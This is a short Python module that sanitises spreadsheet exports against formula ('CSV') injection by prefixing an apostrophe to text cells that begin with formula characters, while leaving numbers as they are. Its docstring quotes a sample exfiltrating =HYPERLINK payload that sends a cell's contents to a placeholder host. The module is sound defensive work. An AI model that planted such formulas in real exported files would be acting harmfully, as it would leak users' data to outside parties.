"""Neutralising formula injection in exported cells (OWASP "CSV Injection").

A spreadsheet opening an export runs a cell that starts with = + - or @ as a formula, and tab or
carriage return may hide such a start: a comment or project name like ``=HYPERLINK("http://x?"&A1)``
would send data elsewhere when clicked. Prefixing an apostrophe makes the spreadsheet show the text
as it is. Numbers, negative ones included, stay numbers: only text that is not a plain number is
touched, and values that are not text (int, float, None, dates) pass unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """`value`, with a leading apostrophe when it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]
